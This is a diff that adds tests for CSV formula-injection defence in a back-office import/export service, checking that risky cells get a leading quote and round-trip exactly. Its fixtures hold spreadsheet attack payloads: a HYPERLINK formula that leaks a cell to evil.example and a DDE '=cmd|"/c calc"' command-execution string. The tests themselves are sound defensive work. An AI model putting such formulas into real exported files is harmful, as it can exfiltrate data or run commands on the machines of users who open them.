@@ -5,6 +5,7 @@ import { testApp, type TestApp } from '../../test/harness.js';
 import { backOfficeSite, type BackOfficeSite } from '../../test/backoffice.js';
 import { createProduct } from '../../test/commerce.js';
 import { batches, IMPORT_BATCH } from './imports.js';
+import { neutraliseCell, restoreCell } from './csv-cells.js';
 
 let t: TestApp;
 let s: BackOfficeSite;
@@ -307,5 +308,88 @@ describe('importing data-collection items', () => {
   it('refuses a collection that does not exist', async () => {
     const res = await t.app.inject({ method: 'POST', url: '/bodega/v1/import-jobs', headers: s.headers.owner, payload: { target: 'data-items', dataCollectionId: 'Nope', format: 'csv', content: 'a\n1' } });
     expect(res.statusCode).toBe(404);
+  });
+});
+
+// ─── formulas: no export hands a spreadsheet a formula (OWASP: a cell beginning with =, +, -, @,
+// tab or CR gets a leading '), and the import takes that quote off again, so a round trip is exact.
+
+const FORMULA_NICKNAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+
+async function importJob(body: Record<string, unknown>): Promise<Job> {
+  return finished(s, (await startImport(s, body)).id);
+}
+
+describe('cells a spreadsheet would run', () => {
+  it('are prefixed with a quote, plain negative numbers are not, and the import takes exactly that quote off', () => {
+    const cases: [string, string][] = [
+      ['=1+2', "'=1+2"], ['+1', "'+1"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', "'\rx"],
+      ["'=1+2", "''=1+2"], ["''@x", "'''@x"], ['-5', '-5'], ['-0.25', '-0.25'], ['-', "'-"], ['- item', "'- item"],
+      ["'quoted", "'quoted"], ['plain', 'plain'], ['', ''], ['a=b', 'a=b'],
+    ];
+    for (const [value, cell] of cases) {
+      expect(neutraliseCell(value), JSON.stringify(value)).toBe(cell);
+      expect(restoreCell(cell), JSON.stringify(cell)).toBe(value);
+    }
+  });
+});
+
+describe('a formula nickname in members.csv', () => {
+  it('is exported as text, and re-imported (into a data collection) as the nickname it was', async () => {
+    const created = await t.app.inject({
+      method: 'POST', url: '/members/v1/members', headers: s.headers.apiKey,
+      payload: { member: { loginEmail: `formula.${Date.now()}@example.com`, profile: { nickname: FORMULA_NICKNAME } } },
+    });
+    expect(created.statusCode, created.body).toBe(200);
+    const memberId = (created.json() as { member: { id: string } }).member.id;
+
+    const csvText = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/members.csv', headers: s.headers.owner })).body;
+    const rows = parse(csvText, { columns: true }) as Record<string, string>[];
+    const row = rows.find((r) => r.id === memberId);
+    expect(row?.nickname).toBe(`'${FORMULA_NICKNAME}`);
+    // No cell of the file begins a formula.
+    for (const r of rows) for (const value of Object.values(r)) expect(value, value).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+
+    const collection = await t.app.inject({
+      method: 'POST', url: '/wix-data/v2/collections', headers: s.headers.owner,
+      payload: { collection: { id: 'MemberCopies', fields: [{ key: 'id', type: 'TEXT' }, { key: 'nickname', type: 'TEXT' }, { key: 'loginEmail', type: 'TEXT' }] } },
+    });
+    expect(collection.statusCode, collection.body).toBe(200);
+    const job = await importJob({ target: 'data-items', dataCollectionId: 'MemberCopies', format: 'csv', content: csvText });
+    expect(job).toMatchObject({ status: 'DONE', failed: 0 });
+    const found = await t.app.inject({
+      method: 'POST', url: '/wix-data/v2/items/query', headers: s.headers.owner,
+      payload: { dataCollectionId: 'MemberCopies', query: { filter: { id: memberId } } },
+    });
+    expect(found.json().dataItems.map((i: { data: { nickname: string } }) => i.data.nickname)).toEqual([FORMULA_NICKNAME]);
+  });
+});
+
+describe('a formula product name in products.csv', () => {
+  it('round-trips exactly through export and import, and so does a name that begins with a quote', async () => {
+    const mine = await backOfficeSite(t);
+    for (const name of ['=cmd|"/c calc"!A1', "'+quoted"]) {
+      await createProduct(t.app, mine.site, { name, priceData: { price: 5 } });
+    }
+    const csvText = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/products.csv', headers: mine.headers.owner })).body;
+    const rows = parse(csvText, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.name).sort()).toEqual(["''+quoted", '\'=cmd|"/c calc"!A1'].sort());
+
+    // Into another site: the same file, read back.
+    const other = await backOfficeSite(t);
+    expect(await finished(other, (await startImport(other, { target: 'products', format: 'csv', content: csvText })).id)).toMatchObject({ status: 'DONE', succeeded: 2 });
+    const res = await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: other.headers.owner, payload: { query: {} } });
+    const names = (res.json() as { products: { name: string }[] }).products.map((p) => p.name);
+    expect(names.sort()).toEqual(["'+quoted", '=cmd|"/c calc"!A1'].sort());
+  });
+});
+
+describe('the failed rows of an import', () => {
+  it('come back with their formula cells neutralised', async () => {
+    const job = await importJob({ target: 'products', format: 'csv', content: 'name,price\n"=2+5",not-a-price\n' });
+    expect(job.failed).toBe(1);
+    const res = await t.app.inject({ method: 'GET', url: `/bodega/v1/import-jobs/${job.id}/failures.csv`, headers: s.headers.owner });
+    const [failed] = parse(res.body, { columns: true }) as Record<string, string>[];
+    expect(failed).toMatchObject({ row: '1', name: "'=2+5", price: 'not-a-price' });
   });
 });
